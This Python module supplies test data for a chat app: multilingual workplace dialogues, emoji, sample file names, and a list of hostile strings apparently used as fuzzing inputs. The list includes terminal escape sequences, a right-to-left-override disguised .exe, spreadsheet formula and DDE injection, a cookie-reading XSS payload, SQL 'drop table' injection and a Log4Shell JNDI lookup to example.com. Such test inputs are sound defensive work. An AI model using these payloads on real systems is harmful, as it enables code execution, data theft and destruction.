"""Message texts: short dialogues by language, hostile strings, and file names.

A dialogue (``Exchange``) is a block of lines, each beginning with the letter of its speaker. {a} to {d} are
the names of the speakers, {n} is a number, {time} a time of day. It has at most ``LONGEST`` lines.
"""
# ruff: noqa: RUF001, E501 - other alphabets look like Latin; one message is one line

from __future__ import annotations

import re
from functools import cache
from typing import NamedTuple

LONGEST = 9


class DialogueLine(NamedTuple):
    """One message of a dialogue: the number of its speaker (0 = a) and its text with placeholders."""

    speaker: int
    text: str


Exchange = tuple[DialogueLine, ...]

_TALK = {
    "en": """
a Morning {b}! Did the build go through?
b Green since {time} ✅
a Then I'll tag the release after lunch
b Wait for the migration, it takes about {n} minutes
a 👍

a Who moved the stand-up to {time}?
b Guilty. Half of us are on trains
c Works for me
a Fine, but then please keep it under {n} minutes 😄
d We never have

a Could you look at my draft? It is {n} pages, sorry
b Reading it now
b The second half is great. The first half is the second half again
a Ouch. Fair. Fixing it

a The customer called again about the export
b Same bug?
a Same bug. {n} rows missing, always the last page
c That is mine, I saw it in the logs. Fix is in review
a You are a hero

a Lunch?
b Falafel or noodles?
c Noodles 🍜
d Noodles
a Outvoted. See you downstairs at {time}

a Happy birthday {b}! 🎂🎉
c Happy birthday!!
d 🥳🥳🥳
b Thank you all, there is cake in the kitchen. There WAS cake in the kitchen

a Is anybody else unable to reach the staging server?
b Works here
c Down for me too
a OK, it was my VPN. Carry on

a I will be out on Thursday, school play
b Break a leg! What does she play?
a A tree. With {n} lines
b Best tree ever 🌳

a Quick one: do we store times in UTC or local?
b UTC. Always UTC
a Even for birthdays?
b …good question

a Numbers are in: {n} % more sign-ups than last month
b 🚀
c What happened on the 14th though?
a The newsletter. We should do that again

b Did you get home all right?
a Yes, the last tram at {time}, just about
b 😅 good

a Reminder: please fill in the survey, it takes {n} minutes
b Done
c Done, question 7 is mean
a Question 7 is meant to be mean
""",
    "es": """
a ¿Alguien ha visto el informe de ventas?
b Está en la carpeta compartida, lo subí a las {time}
a ¡Gracias! Son {n} páginas, ¿hay resumen?
b La última página 😉

a ¿Comemos juntos hoy?
b Claro, ¿a las {time}?
a Perfecto. Invito yo, que ayer pagaste tú

a El cliente quiere cambiar el color otra vez
b ¿Otra vez? Ya van {n}
a Azul, pero «más alegre»
b Le mando tres azules y que elija 🔵🔵🔵

a {b}, ¿puedes revisar la traducción?
b Sí, dame media hora
b Listo. Solo cambié dos tildes
""",
    "fr": """
a Bonjour à tous ! La réunion commence à {time}
b J’arrive, le métro est en retard
a Pas de souci, on t’attend

a Quelqu’un a les clés de la salle ?
b Dans le tiroir, comme toujours
a Il y a {n} tiroirs…
b Celui du milieu 🙃

a Tu as pu tester la nouvelle version ?
b Oui, tout va bien sauf l’export
a Je m’en occupe cet après-midi
b Merci {a} !

a Le client a adoré la maquette 🎉
b Sérieux ? Même la page d’accueil ?
a Surtout la page d’accueil
""",
    "de": """
a Moin! Ist die Rechnung schon raus?
b Ging um {time} raus
a Super, danke dir

a Hat jemand {n} Minuten für ein Review?
b Nach dem Mittagessen gern
a Perfekt, ist auch nicht lang. Naja. Es ist lang

a Die Kaffeemaschine ist kaputt 😱
b Schon wieder?
c Techniker kommt um {time}
a Bis dahin Tee. Schöne Grüße aus der Küche

a {b}, weißt du, wo die Überweisungsbelege liegen?
b Im grünen Ordner, ganz hinten
a Gefunden!
""",
    "ar": """
a صباح الخير {b}، هل وصل التقرير؟
b صباح النور، نعم وصل الساعة {time}
a ممتاز، سأراجعه بعد الاجتماع
b شكراً لك 🌹

a متى موعد الاجتماع اليوم؟
b الساعة {time} إن شاء الله
c سأتأخر خمس دقائق
a لا مشكلة

a العميل يطلب {n} نسخة من الكتالوج
b باللغتين العربية والإنجليزية؟
a نعم، PDF يكفي
b سأرسلها قبل المغرب

a من يريد قهوة؟ ☕
b أنا!
c بدون سكر من فضلك
a حاضر، دقيقتان

a {b}، هل جرّبت الإصدار 2.{n}؟
b جرّبته، أسرع بكثير من قبل
a الحمد لله 🙏
""",
    "he": """
a בוקר טוב! מישהו ראה את ההצעה החדשה?
b כן, שלחתי הערות ב-{time}
a תודה {b}, אעבור עליהן עכשיו

a מתי הפגישה עם הלקוח?
b מחר ב-{time}, בזום
c אני מצטרף
a מצוין 👌

a נשארו {n} משימות בספרינט
b שתיים מהן שלי, אסיים היום
a אלוף!

a צהריים?
b שקשוקה 🍳
a יוצאים
""",
    "tr": """
a Günaydın! Toplantı saat {time}, unutmayın
b Günaydın, geliyorum
a Süper

a {b}, dosyayı gönderebilir misin?
b Tabii, {n} dakika içinde
b Gönderdim 📎
a Eline sağlık

a Çay var mı? 🫖
b Yeni demledim
c Bana da bir bardak lütfen
a Hemen geliyor

a Müşteri teklifi onayladı! 🎉
b Harika haber
a Akşam kutluyoruz
""",
    "ja": """
a おはようございます。昨日の資料、確認できましたか？
b はい、{time}に見ました。とても分かりやすかったです
a ありがとうございます😊

a 会議は{time}からです
b 了解です
c 少し遅れます、すみません🙇
a 大丈夫ですよ

a バグが{n}件残っています
b 半分は私が見ます
a 助かります！
b 今日中に終わらせましょう💪

a 今日のランチはどうしますか
b ラーメンがいいです🍜
c 賛成
d 駅前の新しい店、{n}分待ちらしいですよ
a 早めに出ましょう

a {b}さん、お疲れさまでした
b お疲れさまでした。また明日
""",
    "ko": """
a 안녕하세요, 어제 보낸 파일 확인하셨어요?
b 네, {time}에 확인했습니다
a 감사합니다 🙏

a 회의실 {n}번으로 바뀌었어요
b 앗, 지금 갈게요
c 저도요
a 천천히 오세요 😊

a 점심 뭐 먹을까요?
b 김치찌개!
a 좋아요, {time}에 봬요
""",
    "zh": """
a 早上好，新版本上线了吗？
b {time}已经上线了 ✅
a 太好了，辛苦了！

a 客户想改{n}处文案
b 发给我吧，下午处理
a 好的，谢谢{b}

a 周末谁去爬山？⛰️
b 我去
c 带我一个
a 周六{time}地铁口见
""",
    "hi": """
a नमस्ते {b}, रिपोर्ट तैयार है?
b हाँ, {time} बजे भेज दी थी
a बहुत बढ़िया, धन्यवाद 🙏

a चाय पीने चलें? ☕
b पाँच मिनट में आता हूँ
c मेरे लिए भी एक
a अदरक वाली!

a {n} टिकट अभी बाकी हैं
b मैं आधे ले लेता हूँ
a शुक्रिया, शाम तक खत्म कर देंगे
""",
}


def _parse(text: str) -> list[Exchange]:
    return [
        tuple(DialogueLine("abcd".index(line[0]), line[2:]) for line in block.splitlines())
        for block in text.strip().split("\n\n")
    ]


EXCHANGES: dict[str, list[Exchange]] = {language: _parse(text) for language, text in _TALK.items()}

_LANGUAGES = {exchange: language for language, exchanges in EXCHANGES.items() for exchange in exchanges}


@cache
def sentences_beside(exchange: Exchange) -> tuple[str, ...]:
    """Messages in the language of ``exchange`` that contain no names; empty for a hostile string."""
    exchanges = EXCHANGES.get(_LANGUAGES.get(exchange, ""), [])
    texts = [line.text for each in exchanges for line in each]
    return tuple(text for text in texts if not re.search(r"\{[a-d]\}", text))


# Strings that can break a terminal, a spreadsheet, a page or a query; escaped if they would confuse readers.
HOSTILE: tuple[str, ...] = (
    "\x1b[31mred\x1b[0m and \x1b]0;a new window title\x07 from an escape sequence",
    "this file is harmless: invoice\u202efdp.exe",
    '=HYPERLINK("https://example.com/?q="&A1,"total")',
    "+1+1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "'; drop table messages; --",
    "${jndi:ldap://example.com/a} {{7*7}} {user} %s %(name)s",
    "Z\u0351\u0343a\u0335\u0321l\u0337g\u0334o\u0338 and the family 👨\u200d👩\u200d👧\u200d👦 went to the 🏳️\u200d🌈 parade",
    "two\nlines, a\ttab, a zero\u200bwidth space and \u2066an isolate\u2069",
    "[/red] [docs] *not* _markup_ `at` all",
    "A wall of text. " + "Lorem ipsum dolor sit amet. " * 142 + "12345678",
)

EMOJI = ("👍", "❤️", "😂", "🎉", "😮", "🙏", "🚀", "👀", "🔥", "👩\u200d💻", "🇺🇦", "💯")

# File names, each with a MIME type that the backend allows.
FILES = (
    ("roadmap.pdf", "application/pdf"),
    ("invoice-2026-01.pdf", "application/pdf"),
    ("whiteboard.jpg", "image/jpeg"),
    ("screenshot 2026-01-14 at 09.12.png", "image/png"),
    ("team-lunch.webp", "image/webp"),
    ("it-works.gif", "image/gif"),
    ("contract_final_v3 (2).docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("budget.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("legacy-report.xls", "application/vnd.ms-excel"),
    ("letter.doc", "application/msword"),
    ("見積書.pdf", "application/pdf"),
    ("résumé.pdf", "application/pdf"),
)
